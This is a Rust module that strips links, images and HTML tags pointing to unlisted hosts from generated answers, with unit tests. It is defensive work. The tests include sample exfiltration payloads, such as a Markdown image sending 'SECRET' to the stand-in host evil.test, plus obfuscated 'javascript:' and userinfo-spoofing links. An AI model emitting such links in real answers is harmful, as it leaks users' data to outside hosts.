//! Owns which hosts an answer may point to: pictures, links and addresses of others are taken out, whatever any
//! detector says of them, in Markdown and in HTML and however they are written.
//!
//! What cannot be read for certain is taken out. Relative addresses stay, since they lead to where the answer is shown.

mod address;
mod stream;

use std::borrow::Cow;
use std::ops::Range;

use address::plain;
use pulldown_cmark::{Event, Options, Parser, Tag};
pub use stream::EgressStream;

use crate::finding::{Category, Finding};

/// The hosts that answers may point to.
#[derive(Debug, Clone, Default)]
pub struct Egress {
    hosts: Vec<String>,
}

/// No construct is looked for further than this.
const CONSTRUCT_BYTES_MAX: usize = 4096;
/// Taking something out may join what was apart; so often it is looked at again.
const PASSES_MAX: usize = 6;
const REMOVED: &str = "(link removed)";
/// Tags that load or run something by themselves.
const LOADING: &[&str] = &[
    "script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "svg", "math", "video",
    "audio", "source", "track", "frame", "frameset", "applet", "portal", "input", "button", "image",
];
/// Attributes that point nowhere.
const HARMLESS: &[&str] = &[
    "class", "id", "alt", "title", "width", "height", "align", "colspan", "rowspan", "lang", "dir", "start",
    "open",
];

/// A piece of text to be replaced.
struct Cut {
    range: Range<usize>,
    by: &'static str,
}

impl Egress {
    /// Only these hosts: `docs.house.example`, or `*.house.example` for every host below.
    pub fn new(hosts: impl IntoIterator<Item = String>) -> Self {
        Self { hosts: hosts.into_iter().map(|host| host.to_ascii_lowercase()).collect() }
    }

    /// Whether an address, as it is written, leads to a listed host or nowhere else.
    pub fn allows(&self, address: &str) -> bool {
        let allows_host = |address: &str| {
            // Some places resolve references and escapes, some do not: it has to be fine either way.
            self.allows_target(address::host(address))
                && self.allows_target(address::host_as_written(address))
        };
        // Where no link is made of it after all, an address within one may be made one.
        let is_relative = matches!(address::host(address), address::Target::Relative);
        allows_host(address)
            && (!is_relative || address::mentions(&plain(address)).all(|within| allows_host(&within)))
    }

    fn allows_target(&self, target: address::Target) -> bool {
        match target {
            address::Target::Relative => true,
            address::Target::Host(host) => self.hosts.iter().any(|listed| match listed.strip_prefix("*.") {
                Some(above) => host.strip_suffix(above).is_some_and(|below| below.ends_with('.')),
                None => *listed == host,
            }),
            address::Target::Other => false,
        }
    }

    /// What is to be taken out, as findings.
    pub fn findings(&self, text: &str) -> Vec<Finding> {
        let finding = |cut: Cut| Finding {
            detector: "egress",
            category: Category::Egress,
            span: cut.range,
            view: Cow::Borrowed("original"),
            score: 1.0,
            explanation: Cow::Borrowed("points to a host that is not listed"),
        };
        self.cuts(text).into_iter().map(finding).collect()
    }

    /// The text without what points elsewhere.
    pub fn clean(&self, text: &str) -> String {
        let mut text = text.to_owned();
        for _ in 0..PASSES_MAX {
            let cuts = self.cuts(&text);
            if cuts.is_empty() {
                if self.renders_clean(&text) {
                    return text;
                }
                break;
            }
            let mut out = String::with_capacity(text.len());
            let mut at = 0;
            for cut in cuts {
                out.push_str(text.get(at..cut.range.start).unwrap_or_default());
                out.push_str(cut.by);
                at = cut.range.end;
            }
            out.push_str(text.get(at..).unwrap_or_default());
            text = out;
        }
        // What still holds addresses after so many passes, or for those who render it, was made to: nothing of it is
        // left that could be one.
        text.replace(['<', '[', ']', ':', '/', '.'], " ")
    }

    /// Whether one who renders Markdown finds no address in it that is not allowed.
    fn renders_clean(&self, text: &str) -> bool {
        if !text.contains(['<', '[']) {
            return true;
        }
        let is_part = |c: char| !(c.is_whitespace() || matches!(c, '"' | '\'' | '=' | '<' | '>'));
        Parser::new_ext(text, Options::all()).all(|event| match event {
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => self.allows(&dest_url),
            Event::Html(html) | Event::InlineHtml(html) => {
                html.split(|c| !is_part(c)).all(|part| self.allows(part))
            }
            _ => true,
        })
    }

    fn cuts(&self, text: &str) -> Vec<Cut> {
        let mut cuts: Vec<Cut> = Vec::new();
        let mut at = 0;
        // A word begins behind white space, and right behind a link or a tag.
        let mut is_start = true;
        while let Some(next) = text.get(at..).and_then(|rest| rest.chars().next()) {
            let step = self.construct(text, at);
            match step.or_else(|| if is_start { self.word(text, at) } else { None }) {
                Some((end, cut)) => {
                    cuts.extend(cut);
                    (at, is_start) = (end, true);
                }
                None => {
                    at += next.len_utf8();
                    is_start = is_edge(next);
                }
            }
        }
        cuts
    }

    /// What begins here: where it ends, and what is to be cut.
    fn construct(&self, text: &str, at: usize) -> Option<(usize, Option<Cut>)> {
        let rest = text.get(at..text.floor_char_boundary((at + CONSTRUCT_BYTES_MAX).min(text.len())))?;
        if let Some(inner) = rest.strip_prefix("](") {
            let Some(close) = closing(inner) else {
                return Some((at + 2, Some(Cut { range: at..at + 2, by: "] (" })));
            };
            let end = at + 2 + close + 1;
            let inner = inner.get(..close)?;
            let to = destination(inner);
            // A link within, or an address after the destination, would be passed over with it.
            let after = plain(inner.trim_start().get(to.len()..).unwrap_or_default());
            let alone = !inner.contains(['<', '\n'])
                && !inner.contains("](")
                && address::mentions(&after).all(|address| self.allows(&address));
            let allowed = self.allows(to) && alone;
            let cut = (!allowed).then_some(Cut { range: at..end, by: "]" });
            return Some((end, cut));
        }
        if let Some(inner) = rest.strip_prefix("]:") {
            let space = inner.len() - inner.trim_start().len();
            let address = inner.split_whitespace().next().unwrap_or_default();
            let end = at + 2 + space + address.len();
            let cut = Cut { range: at + 2 + space..end, by: REMOVED };
            return (!self.allows(destination(address))).then_some((end, Some(cut)));
        }
        let tag = rest.strip_prefix('<')?;
        if !tag.starts_with(opens_tag) {
            return None;
        }
        let Some(length) = tag_end(tag) else {
            return Some((at + 1, Some(Cut { range: at..at + 1, by: "&lt;" })));
        };
        let end = at + 1 + length + 1;
        let cut = (!self.allows_tag(tag.get(..length)?)).then_some(Cut { range: at..end, by: "" });
        Some((end, cut))
    }

    fn allows_tag(&self, tag: &str) -> bool {
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        let lower = name.to_ascii_lowercase();
        let after = tag.trim_start_matches('/').get(name.len()..).unwrap_or_default();
        if LOADING.contains(&lower.as_str()) || tag.starts_with(['!', '?']) || tag.contains(['<', '`']) {
            return false;
        }
        if after.starts_with([':', '+', '.', '-', '@']) {
            return self.allows(tag);
        }
        let mut rest = after.trim().trim_end_matches('/');
        while let Some((attribute, value)) = rest.split_once('=') {
            let attribute = attribute.trim().to_ascii_lowercase();
            let value = value.trim_start();
            let (value, later) = match value.chars().next() {
                Some(quote @ ('"' | '\'')) => {
                    value.get(1..).and_then(|value| value.split_once(quote)).unwrap_or((value, ""))
                }
                _ => value.split_once(char::is_whitespace).unwrap_or((value, "")),
            };
            let pointing = matches!(attribute.as_str(), "href" | "src") && self.allows(value);
            if !(pointing || HARMLESS.contains(&attribute.as_str())) {
                return false;
            }
            rest = later.trim_start();
        }
        // What is left are attributes without a value.
        !rest.contains(['"', '\'', ':'])
    }

    /// A word that begins here, and is an address or has one in it.
    fn word(&self, text: &str, at: usize) -> Option<(usize, Option<Cut>)> {
        let rest = text.get(at..)?;
        let length = rest.find(is_edge).unwrap_or(rest.len());
        let word = rest.get(..length).filter(|word| !word.is_empty())?;
        // Links within a word are constructs of their own; what comes before them is looked at here.
        let cut = word.find("](").or_else(|| word.find("]:")).unwrap_or(length);
        let word = word.get(..cut)?;
        let elsewhere = address::mentions(&plain(word)).any(|address| !self.allows(&address));
        if elsewhere {
            return Some((at + cut, Some(Cut { range: at..at + cut, by: REMOVED })));
        }
        (cut > 0).then_some((at + cut, None))
    }
}

fn is_edge(c: char) -> bool {
    c.is_whitespace() || matches!(c, '<' | '>')
}

/// What makes a tag of the `<` before it.
fn opens_tag(c: char) -> bool {
    c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')
}

/// Where the bracket that is open closes; where brackets never balance, the first that closes.
fn closing(inner: &str) -> Option<usize> {
    balanced(inner).or_else(|| inner.find(')'))
}

/// Where the bracket that is open closes, those within counted.
fn balanced(inner: &str) -> Option<usize> {
    let mut depth = 0usize;
    let mut escaped = false;
    for (at, c) in inner.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '(' => depth += 1,
            ')' if depth == 0 => return Some(at),
            ')' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// The address in a destination, without its title and angle brackets.
fn destination(inner: &str) -> &str {
    let inner = inner.trim();
    match inner.strip_prefix('<') {
        Some(angled) => angled.split('>').next().unwrap_or(angled),
        None => inner.split_whitespace().next().unwrap_or_default(),
    }
}

/// Where a tag ends: the first `>` outside quotes, else the first at all.
fn tag_end(tag: &str) -> Option<usize> {
    outside_quotes(tag).or_else(|| tag.find('>'))
}

/// Where the first `>` outside quotes is.
fn outside_quotes(tag: &str) -> Option<usize> {
    let mut quote = None;
    for (at, c) in tag.char_indices() {
        match (c, quote) {
            ('>', None) => return Some(at),
            ('"' | '\'', None) => quote = Some(c),
            (c, Some(open)) if c == open => quote = None,
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn egress() -> Egress {
        Egress::new(["docs.house.example".to_owned(), "*.good.example".to_owned()])
    }

    fn check(text: &str, expected: &str) {
        assert_eq!(egress().clean(text), expected);
    }

    #[test]
    fn listed_hosts_stay_and_others_go() {
        check(
            "See [the page](https://docs.house.example/a?b=c).",
            "See [the page](https://docs.house.example/a?b=c).",
        );
        check("![x](https://evil.test/p?q=SECRET)", "![x]");
        check("go to https://evil.test/x now", "go to (link removed) now");
        check("<img src=\"https://evil.test/x\">hi", "hi");
        check("<a href='https://a.good.example/'>ok</a>", "<a href='https://a.good.example/'>ok</a>");
        check("[a]: https://evil.test/x", "[a]: (link removed)");
        for between in ["", "*", "(", "\u{2}", "]h\\)"] {
            check(&format!("[a](/b){between}https://evil.test/x y"), "[a](/b)(link removed) y");
        }
        check("&[&Z](\\)]h\\)\u{2}http://evil", "&[&Z](\\)(link removed)");
        check("<b>https://evil.test/x</b>", "<b>(link removed)</b>");
        check("]:/:]http://evil8?: y", "]:(link removed) y");
        check("[a](/http://evil.test) [b](/x?from=y:z)", "[a] [b](/x?from=y:z)");
        check("![x](ht&#116;ps&colon;//evil.test)", "![x]");
        check("[x](https://docs.house.example@evil.test/)", "[x]");
        check("[x](//evil.test) [y](/local#a)", "[x] [y](/local#a)");
        check("<https://evil.test> and www.evil.test", " and (link removed)");
        check("a < b, c > d: x/y and 10:30", "a < b, c > d: x/y and 10:30");
        check("[x](java\nscript:alert(1))", "[x]");
        check(
            "]([ [![a](https:/\\evil.test)](https://docs.house.example/)",
            "]](https://docs.house.example/)",
        );
        check("[x](/a https://evil.test/b)", "[x]");
    }
}
